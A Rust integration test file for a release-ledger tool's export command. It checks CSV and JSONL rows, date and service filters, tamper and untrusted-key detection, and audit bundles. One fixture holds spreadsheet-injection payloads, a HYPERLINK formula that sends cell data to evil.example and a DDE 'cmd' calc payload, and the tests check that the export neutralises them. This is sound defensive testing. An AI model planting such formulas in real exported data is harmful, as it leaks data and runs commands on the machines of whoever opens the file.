//! `relgate export` through the whole binary on real ledgers built with the record library in
//! temp dirs (directory and git-branch backends): every CSV and JSONL row checked against the
//! record it came from, spreadsheet-injection and RFC 4180 quoting cases, the date filters at
//! their exact boundaries, service and environment filters, an empty ledger, tampered records
//! and an untrusted key, and the audit bundle verified by running its VERIFY.md literally
//! (then shown to fail once an envelope is tampered with).

#[path = "../../benches/support/ledger.rs"]
mod gen;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine as _;
use relgate::record::keys::{public_key_pem, Signer};
use relgate::record::ledger::{DirLedger, GitLedger, Ledger, LedgerOptions};
use relgate::record::statement::{Decision, PullRequestInfo, RecordInput};
use tempfile::TempDir;

const NOW: &str = "2026-11-27T12:00:00Z";
/// The CSV columns, written out here so a change to the library's column list fails these tests
/// instead of silently passing; `docs_list_the_columns_the_export_writes_in_order` holds this
/// list, the written header and keys and docs/export.md to one another.
const COLUMNS: [&str; 23] = [
    "seq",
    "time",
    "service",
    "name",
    "version",
    "kind",
    "environment",
    "tier",
    "change_type",
    "decision",
    "failed_rules",
    "warned_rules",
    "approvers",
    "requester",
    "pull_request",
    "merged_by",
    "commit",
    "ticket",
    "policy_digest",
    "bundles",
    "manifest_path",
    "evidence",
    "verified",
];
/// Index of the `verified` column.
const VERIFIED: usize = 22;

// ---------------------------------------------------------------------------------------------
// Fixtures
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Backend {
    Dir,
    Git,
}

/// A ledger in a temp dir: `ledger/` (directory backend) or branch relgate/records of the
/// repository `repo/` (git backend), and `keys/` with the trusted public key.
struct Fixture {
    tmp: TempDir,
    backend: Backend,
}

fn no_fsync() -> LedgerOptions {
    LedgerOptions {
        fsync: false,
        ..Default::default()
    }
}

impl Fixture {
    fn new(backend: Backend) -> Fixture {
        let tmp = tempfile::tempdir().expect("tmp");
        gen::write_public_key(&tmp.path().join("keys"));
        if backend == Backend::Git {
            git2::Repository::init(tmp.path().join("repo")).expect("git init");
        } else {
            DirLedger::open_with(&tmp.path().join("ledger"), no_fsync()).expect("open");
        }
        Fixture { tmp, backend }
    }

    /// A ledger of records `1..=n` of the generated set.
    fn generated(backend: Backend, n: u64) -> Fixture {
        let f = Fixture::new(backend);
        f.append((1..=n).map(gen::input), &gen::signer());
        f
    }

    fn path(&self) -> &Path {
        self.tmp.path()
    }

    fn ledger(&self) -> Box<dyn Ledger> {
        match self.backend {
            Backend::Dir => Box::new(
                DirLedger::open_with(&self.path().join("ledger"), no_fsync()).expect("open"),
            ),
            Backend::Git => Box::new(
                GitLedger::open_with(&self.path().join("repo"), "relgate/records", no_fsync())
                    .expect("open"),
            ),
        }
    }

    fn append(&self, inputs: impl IntoIterator<Item = RecordInput>, signer: &Signer) {
        let mut ledger = self.ledger();
        for input in inputs {
            ledger.append(&input, signer).expect("append");
        }
    }

    /// Runs `relgate export ARGS` on the ledger, from the repository (git: the default
    /// branch is found) or with `--ledger-dir`.
    fn export(&self, args: &[&str]) -> Run {
        let keys = self.path().join("keys");
        let mut all: Vec<String> = vec!["export".into(), "--keys".into(), s(&keys)];
        let cwd = match self.backend {
            Backend::Dir => {
                all.extend(["--ledger-dir".into(), s(&self.path().join("ledger"))]);
                self.path().to_path_buf()
            }
            Backend::Git => self.path().join("repo"),
        };
        all.extend(args.iter().map(|a| (*a).to_owned()));
        run_relgate(&all, &cwd)
    }

    /// The record file of `seq` (directory backend).
    fn record_file(&self, seq: u64) -> PathBuf {
        let shard = self
            .path()
            .join("ledger/records")
            .join(format!("{:03}", seq / 1000));
        std::fs::read_dir(&shard)
            .expect("shard")
            .map(|e| e.expect("entry").path())
            .find(|p| {
                p.file_name()
                    .and_then(|n| n.to_str())
                    .is_some_and(|n| n.starts_with(&format!("{seq:06}-")))
            })
            .expect("record file")
    }
}

fn s(p: &Path) -> String {
    p.to_str().expect("utf8 path").to_owned()
}

struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl Run {
    fn context(&self) -> String {
        format!(
            "exit {:?}\n--- stdout:\n{}\n--- stderr:\n{}",
            self.code,
            self.stdout.chars().take(3000).collect::<String>(),
            self.stderr
        )
    }

    fn exit(&self, code: i32) -> &Run {
        assert_eq!(self.code, Some(code), "{}", self.context());
        assert!(!self.stderr.contains("panicked"), "{}", self.context());
        self
    }

    fn stderr_has(&self, text: &str) -> &Run {
        assert!(
            self.stderr.contains(text),
            "stderr lacks {text:?}\n{}",
            self.context()
        );
        self
    }
}

fn run_relgate(args: &[String], cwd: &Path) -> Run {
    let out: Output = Command::new(crate::support::relgate_bin())
        .args(args)
        .current_dir(cwd)
        .env("RELGATE_NOW", NOW)
        .env("NO_COLOR", "1")
        .output()
        .expect("run relgate");
    Run {
        code: out.status.code(),
        stdout: String::from_utf8(out.stdout).expect("utf8 stdout"),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// Parses a CSV export with the csv crate: header and records.
fn parse_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let header = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.expect("csv record").iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

fn parse_jsonl(text: &str) -> Vec<serde_json::Value> {
    text.lines()
        .map(|l| serde_json::from_str(l).expect("jsonl line"))
        .collect()
}

/// The row the export must write for a record, worked out from what was recorded (not from
/// the export code): deny and warn rules distinct and sorted, approvers sorted, requester the
/// PR author else the owner's contact.
fn expected(seq: u64, input: &RecordInput, verified: bool) -> serde_json::Value {
    let rules = |severity: &str| -> Vec<String> {
        let set: BTreeSet<String> = input
            .findings
            .iter()
            .filter(|f| f["severity"] == severity)
            .map(|f| f["rule"].as_str().expect("rule").to_owned())
            .collect();
        set.into_iter().collect()
    };
    let pr: Option<&PullRequestInfo> = input.pull_request.as_ref();
    let mut approvers = pr.map(|p| p.approvers.clone()).unwrap_or_default();
    approvers.sort();
    let m = &input.manifest;
    let mut evidence: Vec<&str> = input.evidence.iter().map(|e| e.uri.as_str()).collect();
    evidence.sort_unstable();
    evidence.dedup();
    serde_json::json!({
        "seq": seq,
        "time": input.time_verified,
        "service": m.service,
        "name": m.name,
        "version": m.version,
        "kind": m.kind,
        "environment": m.environment,
        "tier": m.tier,
        "change_type": m.change_type,
        "decision": match input.decision {
            Decision::Pass => "pass",
            Decision::Fail => "fail",
            Decision::Error => "error",
        },
        "failed_rules": rules("deny"),
        "warned_rules": rules("warn"),
        "approvers": approvers,
        "requester": pr.map(|p| p.author.clone())
            .or_else(|| m.owner.as_ref().and_then(|o| o.contact.clone())),
        "pull_request": pr.map(|p| p.number),
        "merged_by": pr.and_then(|p| p.merged_by.clone()),
        "commit": input.git.commit,
        "ticket": m.ticket,
        "policy_digest": format!("sha256:{}", input.policy.sha256),
        "bundles": input.bundles,
        "manifest_path": input.manifest_path,
        "evidence": evidence,
        "verified": verified,
    })
}

/// The CSV cells of an expected row: null empty, lists joined with `;`, formula-like cells
/// prefixed with `'`.
fn expected_cells(row: &serde_json::Value) -> Vec<String> {
    COLUMNS
        .iter()
        .map(|c| {
            let cell = match &row[*c] {
                serde_json::Value::Null => String::new(),
                serde_json::Value::String(s) => s.clone(),
                serde_json::Value::Array(items) => items
                    .iter()
                    .map(|i| i.as_str().expect("string item"))
                    .collect::<Vec<_>>()
                    .join(";"),
                other => other.to_string(),
            };
            // The documented rule, restated: every `;`-part that begins (after whitespace)
            // like a formula, or with `'`, tab or CR, gets a `'`.
            let risky = |p: &str| {
                p.starts_with(['\'', '\t', '\r'])
                    || p.trim_start()
                        .starts_with(['=', '+', '-', '@', '|', '＝', '＋', '－', '＠'])
            };
            cell.split(';')
                .map(|p| {
                    if risky(p) {
                        format!("'{p}")
                    } else {
                        p.to_owned()
                    }
                })
                .collect::<Vec<_>>()
                .join(";")
        })
        .collect()
}

fn assert_rows(csv_text: &str, jsonl_text: &str, expected_rows: &[serde_json::Value]) {
    let (header, rows) = parse_csv(csv_text);
    assert_eq!(header, COLUMNS);
    assert_eq!(rows.len(), expected_rows.len(), "CSV row count");
    for (row, want) in rows.iter().zip(expected_rows) {
        assert_eq!(
            row,
            &expected_cells(want),
            "CSV row of record {}",
            want["seq"]
        );
    }
    let lines = parse_jsonl(jsonl_text);
    assert_eq!(lines.len(), expected_rows.len(), "JSONL line count");
    for (line, want) in lines.iter().zip(expected_rows) {
        let keys: Vec<&str> = line
            .as_object()
            .expect("object")
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(keys, COLUMNS, "JSONL key order");
        assert_eq!(line, want, "JSONL row of record {}", want["seq"]);
    }
}

/// Rewrites the payload of a stored envelope with `edit`, keeping its signature.
fn tamper_envelope(envelope: &[u8], edit: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
    let mut env: serde_json::Value = serde_json::from_slice(envelope).expect("envelope");
    let payload = B64
        .decode(env["payload"].as_str().expect("payload"))
        .expect("base64");
    let mut statement: serde_json::Value = serde_json::from_slice(&payload).expect("statement");
    edit(&mut statement);
    env["payload"] = B64
        .encode(serde_json::to_vec(&statement).expect("json"))
        .into();
    serde_json::to_vec(&env).expect("json")
}

/// Flips the recorded decision (fail <-> pass; error -> pass).
fn set_decision_pass(statement: &mut serde_json::Value) {
    let change = &mut statement["predicate"]["https://relgate.dev/change/v1"];
    change["decision"] = if change["decision"] == "pass" {
        "fail"
    } else {
        "pass"
    }
    .into();
}

// ---------------------------------------------------------------------------------------------
// Rows
// ---------------------------------------------------------------------------------------------

const GENERATED: u64 = 200;

fn rows_match_the_records(backend: Backend) {
    let f = Fixture::generated(backend, GENERATED);
    let csv_run = f.export(&["--format", "csv"]);
    csv_run.exit(0).stderr_has("INTACT").stderr_has(&format!(
        "{GENERATED} rows of {GENERATED} records (filter: none); wrote CSV to stdout"
    ));
    let jsonl_run = f.export(&["--format", "jsonl"]);
    jsonl_run.exit(0);
    let want: Vec<serde_json::Value> = (1..=GENERATED)
        .map(|i| expected(i, &gen::input(i), true))
        .collect();
    assert_rows(&csv_run.stdout, &jsonl_run.stdout, &want);
    // The generated set is varied: every decision, service and environment, with and without
    // pull requests, approvers, tickets and tiers.
    let (_, rows) = parse_csv(&csv_run.stdout);
    let distinct = |col: usize| rows.iter().map(|r| r[col].clone()).collect::<BTreeSet<_>>();
    assert_eq!(distinct(9).len(), 3, "decisions");
    assert_eq!(distinct(2).len(), 5, "services");
    assert_eq!(distinct(6).len(), 3, "environments");
    assert!(distinct(14).contains(""), "a record without a pull request");
    assert!(distinct(12).contains("bob;erin"), "approvers joined sorted");
    assert!(distinct(10).contains("EVAL-THRESHOLD;PII-RETENTION"));
    // RFC 4180 line ends.
    assert!(csv_run.stdout.starts_with("seq,time,"));
    assert_eq!(csv_run.stdout.matches("\r\n").count() as u64, GENERATED + 1);
}

#[test]
fn csv_and_jsonl_rows_match_the_records_dir() {
    rows_match_the_records(Backend::Dir);
}

#[test]
fn csv_and_jsonl_rows_match_the_records_git() {
    rows_match_the_records(Backend::Git);
}

#[test]
fn output_file_and_html_format() {
    let f = Fixture::generated(Backend::Dir, 5);
    let out = f.path().join("out/export.csv");
    std::fs::create_dir_all(out.parent().expect("parent")).expect("mkdir");
    let run = f.export(&["--output", &s(&out)]);
    run.exit(0).stderr_has(&format!("wrote CSV to {}", s(&out)));
    assert!(run.stdout.is_empty(), "--output keeps stdout empty");
    let text = std::fs::read_to_string(&out).expect("written");
    assert_eq!(parse_csv(&text).1.len(), 5);
    // No temporary file is left beside the output.
    let names: Vec<String> = std::fs::read_dir(out.parent().expect("parent"))
        .expect("ls")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["export.csv"]);
    // The HTML report is written by export::html (its content is tested with it).
    f.export(&["--format", "html", "--output", &s(&f.path().join("r.html"))])
        .exit(0)
        .stderr_has("wrote HTML to");
    let html = std::fs::read_to_string(f.path().join("r.html")).expect("html written");
    assert!(
        html.starts_with("<!DOCTYPE html>"),
        "{}",
        &html[..html.len().min(200)]
    );
    assert!(html.contains("<svg"), "the report has its charts");
    assert!(
        html.matches("<tr").count() >= 5,
        "a table row per record at least"
    );
}

/// A record whose text fields carry formula starts, quotes, commas and line breaks.
fn hostile_input() -> RecordInput {
    let mut input = gen::input(1);
    input.manifest.name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")".into();
    input.manifest.ticket = Some("+1-555-0100".into());
    input.manifest.version = "1.0\n\"quoted\", with comma".into();
    input.manifest.service = Some("@SUM(1+1)".into());
    input.manifest.change_type = Some("\tfeature".into());
    input.manifest.environment = Some("-production".into());
    input.findings = vec![
        serde_json::json!({"rule": "-2+3", "severity": "deny", "message": "m"}),
        serde_json::json!({"rule": "=cmd|' /C calc'!A0", "severity": "warn", "message": "m"}),
    ];
    input.pull_request = Some(PullRequestInfo {
        number: 7,
        author: "\rcarriage".into(),
        approvers: vec!["@evil".into(), "bob".into()],
        merged_by: Some("a,b".into()),
    });
    input
}

#[test]
fn csv_cells_are_spreadsheet_safe_and_rfc4180_round_trips() {
    let f = Fixture::new(Backend::Dir);
    f.append([hostile_input()], &gen::signer());
    let csv_run = f.export(&[]);
    csv_run.exit(0);
    let jsonl_run = f.export(&["--format", "jsonl"]);
    jsonl_run.exit(0);
    let want = expected(1, &hostile_input(), true);
    assert_rows(
        &csv_run.stdout,
        &jsonl_run.stdout,
        std::slice::from_ref(&want),
    );

    // The neutralised cells, spelled out.
    let (_, rows) = parse_csv(&csv_run.stdout);
    let row = &rows[0];
    let cell = |name: &str| row[COLUMNS.iter().position(|c| *c == name).expect("column")].clone();
    assert_eq!(
        cell("name"),
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(cell("ticket"), "'+1-555-0100");
    assert_eq!(cell("service"), "'@SUM(1+1)");
    assert_eq!(cell("change_type"), "'\tfeature");
    assert_eq!(cell("environment"), "'-production");
    assert_eq!(cell("failed_rules"), "'-2+3");
    assert_eq!(cell("warned_rules"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell("approvers"), "'@evil;bob");
    assert_eq!(cell("requester"), "'\rcarriage");
    // Embedded line break, quotes and comma survive the round trip, quoted per RFC 4180.
    assert_eq!(cell("version"), "1.0\n\"quoted\", with comma");
    assert_eq!(cell("merged_by"), "a,b");
    assert!(
        csv_run
            .stdout
            .contains("\"1.0\n\"\"quoted\"\", with comma\""),
        "{}",
        csv_run.stdout
    );
    assert!(csv_run
        .stdout
        .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\""));
    // JSONL carries the values as recorded.
    let line = &parse_jsonl(&jsonl_run.stdout)[0];
    assert_eq!(
        line["name"],
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(line["approvers"], serde_json::json!(["@evil", "bob"]));
}

// ---------------------------------------------------------------------------------------------
// Filters
// ---------------------------------------------------------------------------------------------

/// Records at the edges of 2026-01-31 (UTC) and of 12:00 that day.
const TIMES: [&str; 8] = [
    "2026-01-30T23:59:59Z",
    "2026-01-31T00:00:00Z",
    "2026-01-31T12:00:00Z",
    "2026-01-31T12:00:01Z",
    "2026-02-01T00:30:00+01:00", // 2026-01-31T23:30:00Z
    "2026-01-31T23:59:59.999Z",
    "2026-02-01T00:00:00Z",
    "2026-01-31T23:59:59-00:01", // 2026-02-01T00:00:59Z
];

fn seqs(run: &Run) -> Vec<u64> {
    parse_csv(&run.stdout)
        .1
        .iter()
        .map(|r| r[0].parse().expect("seq"))
        .collect()
}

#[test]
fn date_filters_keep_both_boundaries_exactly() {
    let f = Fixture::new(Backend::Dir);
    f.append(
        TIMES.iter().enumerate().map(|(i, t)| {
            let mut input = gen::input(i as u64 + 1);
            input.time_verified = (*t).into();
            input
        }),
        &gen::signer(),
    );
    let day = f.export(&["--since", "2026-01-31", "--until", "2026-01-31"]);
    day.exit(0).stderr_has(
        "filter: decided at or after 2026-01-31T00:00:00Z, before 2026-02-01T00:00:00Z",
    );
    assert_eq!(seqs(&day), [2, 3, 4, 5, 6]);
    // RFC 3339 bounds are inclusive of that instant, and compare instants across offsets.
    assert_eq!(
        seqs(&f.export(&["--since", "2026-01-31T12:00:00Z", "--until", "2026-02-01"])),
        [3, 4, 5, 6, 7, 8]
    );
    assert_eq!(
        seqs(&f.export(&["--until", "2026-01-31T12:00:00Z"])),
        [1, 2, 3]
    );
    assert_eq!(
        seqs(&f.export(&[
            "--since",
            "2026-01-31T13:00:00+01:00",
            "--until",
            "2026-01-31T12:00:01Z"
        ])),
        [3, 4]
    );
    assert_eq!(seqs(&f.export(&["--since", "2026-02-01"])), [7, 8]);
    assert_eq!(seqs(&f.export(&["--until", "2026-01-30"])), [1]);
    // Unusable dates stop before anything is read or written.
    let bad = f.export(&["--since", "31/01/2026"]);
    bad.exit(2)
        .stderr_has("--since \"31/01/2026\" is not a date");
    assert!(bad.stdout.is_empty());
    f.export(&["--since", "2026-02-01", "--until", "2026-01-31"])
        .exit(2)
        .stderr_has("no decision can match");
}

#[test]
fn a_record_time_a_date_filter_cannot_place_makes_the_export_incomplete() {
    let f = Fixture::new(Backend::Dir);
    let mut odd = gen::input(2);
    odd.time_verified = "yesterday".into();
    f.append([gen::input(1), odd], &gen::signer());
    let run = f.export(&["--since", "2025-01-01"]);
    run.exit(2)
        .stderr_has("not exported: record 2")
        .stderr_has("\"yesterday\" is not an RFC 3339 time")
        .stderr_has("exit 2: verified records are missing");
    assert_eq!(seqs(&run), [1]);
    // Without a date filter it is exported as recorded.
    assert_eq!(seqs(f.export(&[]).exit(0)), [1, 2]);
}

#[test]
fn service_and_environment_filters() {
    let f = Fixture::generated(Backend::Dir, 60);
    let want = |pred: &dyn Fn(&RecordInput) -> bool| -> Vec<u64> {
        (1..=60).filter(|i| pred(&gen::input(*i))).collect()
    };
    let service = |input: &RecordInput, s: &str| input.manifest.service.as_deref() == Some(s);
    let env = |input: &RecordInput, e: &str| input.manifest.environment.as_deref() == Some(e);

    let one = f.export(&["--service", "support-bot"]);
    one.exit(0).stderr_has("filter: service support-bot");
    assert_eq!(seqs(&one), want(&|i| service(i, "support-bot")));
    assert!(!seqs(&one).is_empty());
    assert_eq!(
        seqs(&f.export(&["--service", "triage", "--service", "summarizer"])),
        want(&|i| service(i, "triage") || service(i, "summarizer"))
    );
    assert_eq!(
        seqs(&f.export(&["--environment", "production"])),
        want(&|i| env(i, "production"))
    );
    let both = f.export(&[
        "--service",
        "fraud-scorer",
        "--environment",
        "dev",
        "-f",
        "jsonl",
    ]);
    both.exit(0);
    let lines = parse_jsonl(&both.stdout);
    let got: Vec<u64> = lines
        .iter()
        .map(|l| l["seq"].as_u64().expect("seq"))
        .collect();
    assert_eq!(got, want(&|i| service(i, "fraud-scorer") && env(i, "dev")));
    assert!(!got.is_empty());
    assert!(seqs(&f.export(&["--service", "nope"])).is_empty());
}

// ---------------------------------------------------------------------------------------------
// Empty, unreadable, tampered
// ---------------------------------------------------------------------------------------------

#[test]
fn empty_ledger_exports_a_header_only_csv_and_an_empty_jsonl() {
    let f = Fixture::new(Backend::Dir);
    let csv_run = f.export(&[]);
    csv_run
        .exit(0)
        .stderr_has("INTACT")
        .stderr_has("0 rows of 0 records");
    assert_eq!(csv_run.stdout, format!("{}\r\n", COLUMNS.join(",")));
    let jsonl_run = f.export(&["--format", "jsonl"]);
    jsonl_run.exit(0);
    assert_eq!(jsonl_run.stdout, "");
}

#[test]
fn no_ledger_or_no_keys_is_could_not_verify() {
    // A git repository without the ledger branch.
    let f = Fixture::new(Backend::Git);
    let run = f.export(&[]);
    run.exit(2)
        .stderr_has("COULD NOT VERIFY")
        .stderr_has("nothing exported");
    assert!(run.stdout.is_empty());
    // No key directory.
    let g = Fixture::generated(Backend::Dir, 3);
    let run = run_relgate(
        &[
            "export".into(),
            "--ledger-dir".into(),
            s(&g.path().join("ledger")),
        ],
        g.path(),
    );
    run.exit(2).stderr_has("no trusted keys");
    assert!(run.stdout.is_empty());
    // An empty key directory.
    std::fs::create_dir(g.path().join("empty")).expect("mkdir");
    let run = run_relgate(
        &[
            "export".into(),
            "--ledger-dir".into(),
            s(&g.path().join("ledger")),
            "--keys".into(),
            s(&g.path().join("empty")),
        ],
        g.path(),
    );
    run.exit(2).stderr_has("no_trusted_keys");
    assert!(run.stdout.is_empty());
}

/// Exports a ledger whose record `bad` was tampered with: written, exit 1, only that row
/// unverified.
fn assert_only_unverified(run: &Run, n: u64, bad: &[u64]) {
    run.exit(1).stderr_has("TAMPERED");
    let (_, rows) = parse_csv(&run.stdout);
    assert_eq!(rows.len() as u64, n, "every record still exported");
    for row in &rows {
        let seq: u64 = row[0].parse().expect("seq");
        let want = if bad.contains(&seq) { "false" } else { "true" };
        assert_eq!(
            row[VERIFIED], want,
            "verified of record {seq}\n{}",
            run.stderr
        );
    }
}

#[test]
fn tampered_record_dir_export_is_written_flagged_and_exits_1() {
    let f = Fixture::generated(Backend::Dir, 30);
    let file = f.record_file(7);
    let bytes = std::fs::read(&file).expect("read");
    std::fs::write(&file, tamper_envelope(&bytes, set_decision_pass)).expect("write");
    let out = f.path().join("audit.csv");
    let run = f.export(&["--output", &s(&out)]);
    run.exit(1)
        .stderr_has("bad_signature")
        .stderr_has("record 7")
        .stderr_has("prev_mismatch")
        .stderr_has("30 rows of 30 records");
    let written = std::fs::read_to_string(&out).expect("export still written");
    assert_only_unverified(
        &Run {
            code: run.code,
            stdout: written,
            stderr: run.stderr.clone(),
        },
        30,
        &[7],
    );
    // The tampered row shows what the record says now, flagged.
    let jsonl = f.export(&["--format", "jsonl"]);
    let line = &parse_jsonl(&jsonl.stdout)[6];
    assert_eq!(line["seq"], 7);
    assert_eq!(line["decision"], "pass");
    assert_eq!(line["verified"], false);
}

#[test]
fn tampered_record_git_export_is_written_flagged_and_exits_1() {
    let f = Fixture::generated(Backend::Git, 12);
    // Someone with push access but without the key rewrites record 5 in a new commit.
    let repo = git2::Repository::open(f.path().join("repo")).expect("open");
    let reference = "refs/heads/relgate/records";
    let head = repo
        .find_reference(reference)
        .and_then(|r| r.peel_to_commit())
        .expect("head");
    let tree = head.tree().expect("tree");
    let records = repo
        .find_tree(tree.get_name("records").expect("records").id())
        .expect("records tree");
    let shard = repo
        .find_tree(records.get_name("000").expect("shard").id())
        .expect("shard tree");
    let entry = shard
        .iter()
        .find(|e| e.name().is_ok_and(|n| n.starts_with("000005-")))
        .expect("record 5");
    let name = entry.name().expect("utf8").to_owned();
    let blob = repo.find_blob(entry.id()).expect("blob");
    let edited = repo
        .blob(&tamper_envelope(blob.content(), set_decision_pass))
        .expect("blob");
    let mut sb = repo.treebuilder(Some(&shard)).expect("tb");
    sb.insert(&name, edited, 0o100_644).expect("insert");
    let mut rb = repo.treebuilder(Some(&records)).expect("tb");
    rb.insert("000", sb.write().expect("write"), 0o040_000)
        .expect("insert");
    let mut tb = repo.treebuilder(Some(&tree)).expect("tb");
    tb.insert("records", rb.write().expect("write"), 0o040_000)
        .expect("insert");
    let new_tree = repo.find_tree(tb.write().expect("write")).expect("tree");
    let sig = git2::Signature::now("mallory", "m@example.com").expect("sig");
    let commit = repo
        .commit(None, &sig, &sig, "typo", &new_tree, &[&head])
        .expect("commit");
    repo.reference(reference, commit, true, "push")
        .expect("ref");

    let run = f.export(&[]);
    run.stderr_has("bad_signature")
        .stderr_has("history_record_changed");
    assert_only_unverified(&run, 12, &[5]);
}

#[test]
fn a_record_signed_by_an_untrusted_key_is_unverified() {
    let f = Fixture::generated(Backend::Dir, 6);
    let mallory = Signer::from_seed([7; 32]);
    f.append([gen::input(7)], &mallory);
    f.append([gen::input(8)], &gen::signer());
    let run = f.export(&[]);
    run.stderr_has("untrusted_key");
    assert_only_unverified(&run, 8, &[7]);

    // Trusting only another key: nothing verifies, everything is still exported.
    let other = f.path().join("other-keys");
    std::fs::create_dir(&other).expect("mkdir");
    std::fs::write(
        other.join("other.pem"),
        public_key_pem(&mallory.verifying_key()),
    )
    .expect("write");
    let run = run_relgate(
        &[
            "export".into(),
            "--ledger-dir".into(),
            s(&f.path().join("ledger")),
            "--keys".into(),
            s(&other),
        ],
        f.path(),
    );
    run.stderr_has("untrusted_key");
    assert_only_unverified(&run, 8, &[1, 2, 3, 4, 5, 6, 8]);
}

// ---------------------------------------------------------------------------------------------
// Bundle
// ---------------------------------------------------------------------------------------------

/// The members of a .tar.gz: (path, mode, uid, gid, mtime, bytes).
fn bundle_members(path: &Path) -> Vec<(String, u32, u64, u64, u64, Vec<u8>)> {
    let file = std::fs::File::open(path).expect("bundle");
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(file));
    archive
        .entries()
        .expect("entries")
        .map(|e| {
            let mut e = e.expect("entry");
            let h = e.header().clone();
            let mut bytes = Vec::new();
            std::io::Read::read_to_end(&mut e, &mut bytes).expect("read");
            (
                e.path().expect("path").to_string_lossy().into_owned(),
                h.mode().expect("mode"),
                h.uid().expect("uid"),
                h.gid().expect("gid"),
                h.mtime().expect("mtime"),
                bytes,
            )
        })
        .collect()
}

/// The ```sh blocks of VERIFY.md.
fn sh_blocks(md: &str) -> Vec<String> {
    let mut blocks = Vec::new();
    let mut current: Option<String> = None;
    for line in md.lines() {
        match &mut current {
            None if line.trim_end() == "```sh" => current = Some(String::new()),
            Some(block) if line.trim_end() == "```" => {
                blocks.push(std::mem::take(block));
                current = None;
            }
            Some(block) => {
                block.push_str(line);
                block.push('\n');
            }
            None => {}
        }
    }
    blocks
}

/// Runs each block with bash in `dir`, relgate on PATH (the tested binary's own directory,
/// [`crate::support::relgate_bin`]); their exit codes.
fn run_blocks(blocks: &[String], dir: &Path) -> Vec<(i32, String)> {
    let bin = crate::support::relgate_bin()
        .parent()
        .expect("bin dir")
        .to_path_buf();
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    blocks
        .iter()
        .map(|b| {
            let out = Command::new("bash")
                .arg("-c")
                .arg(b)
                .current_dir(dir)
                .env("PATH", &path)
                .env("NO_COLOR", "1")
                .output()
                .expect("run bash");
            (
                out.status.code().unwrap_or(-1),
                format!(
                    "{}\n--- stdout:\n{}\n--- stderr:\n{}",
                    b,
                    String::from_utf8_lossy(&out.stdout),
                    String::from_utf8_lossy(&out.stderr)
                ),
            )
        })
        .collect()
}

fn unpack(bundle: &Path, into: &Path) {
    std::fs::create_dir_all(into).expect("mkdir");
    let file = std::fs::File::open(bundle).expect("bundle");
    tar::Archive::new(flate2::read::GzDecoder::new(file))
        .unpack(into)
        .expect("unpack");
}

#[test]
fn bundle_is_verified_by_following_verify_md_and_fails_after_tampering() {
    let f = Fixture::generated(Backend::Git, 20);
    let bundle = f.path().join("audit.tar.gz");
    let run = f.export(&["--bundle", &s(&bundle), "--service", "support-bot"]);
    run.exit(0).stderr_has("wrote bundle");
    assert!(run.stdout.is_empty(), "only the bundle was asked for");

    // Deterministic: the same export again gives the same bytes.
    let again = f.path().join("again.tar.gz");
    f.export(&["--bundle", &s(&again), "--service", "support-bot"])
        .exit(0);
    assert_eq!(
        std::fs::read(&bundle).expect("bundle"),
        std::fs::read(&again).expect("bundle")
    );

    let members = bundle_members(&bundle);
    let names: Vec<&str> = members.iter().map(|m| m.0.as_str()).collect();
    let key_file = format!("keys/{}.pem", gen::signer().key_id());
    assert_eq!(
        names,
        [
            "CHECKPOINT",
            "SHA256SUMS",
            "VERIFY.md",
            "envelopes.jsonl",
            "export.csv",
            key_file.as_str(),
            "merkle-root.sh",
            "report.html",
            "verification.json"
        ]
    );
    for (name, mode, uid, gid, mtime, _) in &members {
        assert_eq!((*mode, *uid, *gid, *mtime), (0o644, 0, 0, 0), "{name}");
    }
    let member = |name: &str| {
        members
            .iter()
            .find(|m| m.0 == name)
            .map(|m| String::from_utf8(m.5.clone()).expect("utf8"))
            .expect("member")
    };
    // envelopes.jsonl holds every record (the filter applies to export.csv only), in order.
    let envelopes = member("envelopes.jsonl");
    assert_eq!(envelopes.lines().count(), 20);
    for (i, line) in envelopes.lines().enumerate() {
        let env: serde_json::Value = serde_json::from_str(line).expect("envelope");
        let payload = B64
            .decode(env["payload"].as_str().expect("payload"))
            .expect("base64");
        let statement: serde_json::Value = serde_json::from_slice(&payload).expect("json");
        assert_eq!(
            statement["predicate"]["https://relgate.dev/change/v1"]["seq"],
            i as u64 + 1
        );
    }
    let csv_rows = parse_csv(&member("export.csv")).1;
    let support: Vec<u64> = (1..=20)
        .filter(|i| gen::input(*i).manifest.service.as_deref() == Some("support-bot"))
        .collect();
    assert_eq!(
        csv_rows
            .iter()
            .map(|r| r[0].parse::<u64>().expect("seq"))
            .collect::<Vec<_>>(),
        support
    );
    let verification: serde_json::Value =
        serde_json::from_str(&member("verification.json")).expect("json");
    assert_eq!(verification["status"], "intact");
    assert_eq!(verification["records"], 20);
    assert_eq!(
        member(&key_file),
        public_key_pem(&gen::signer().verifying_key())
    );

    // Follow VERIFY.md literally in the unpacked bundle.
    let md = member("VERIFY.md");
    let blocks = sh_blocks(&md);
    // Steps 0 (key ids) to 6 (the CSV rebuilt from the signed envelopes).
    assert_eq!(blocks.len(), 7, "{md}");
    let dir = f.path().join("unpacked");
    unpack(&bundle, &dir);
    for (code, log) in run_blocks(&blocks, &dir) {
        assert_eq!(code, 0, "VERIFY.md step failed on an intact bundle:\n{log}");
    }

    // Tamper with one envelope (record 10 now says "pass", signature kept): steps 1 to 6
    // fail (step 5: the Merkle root recomputed from the payloads); the key ids (step 0) are
    // unchanged.
